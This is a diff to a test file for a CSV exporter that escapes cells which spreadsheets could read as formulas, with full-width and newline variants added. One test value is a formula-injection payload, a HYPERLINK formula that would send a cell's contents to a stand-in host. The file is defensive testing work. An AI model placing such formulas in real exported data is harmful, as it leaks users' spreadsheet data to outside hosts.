@@ -33,12 +33,13 @@ describe('a text in CSV', () => {
     expect(readBack(text, 'next')).toEqual([text, 'next']);
   });
 
-  it.each(['=HYPERLINK("http://x.invalid?"&A1,"see")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'])(
-    'is no formula for a spreadsheet: %j',
-    (text) => {
-      expect(readBack(text)).toEqual([`'${text}`]);
-    },
-  );
+  it.each([
+    '=HYPERLINK("http://x.invalid?"&A1,"see")',
+    ...['+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1'],
+    ...['＝1+1', '＋1+1', '－2+3', '＠SUM(A1)'],
+  ])('is no formula for a spreadsheet: %j', (text) => {
+    expect(readBack(text)).toEqual([`'${text}`]);
+  });
 
   it('is told from a number: −5 days stay −5 days', () => {
     expect(csvFile(tableWith(-5, '-5')).text).toBe("TEXT\r\n-5\r\n'-5\r\n");
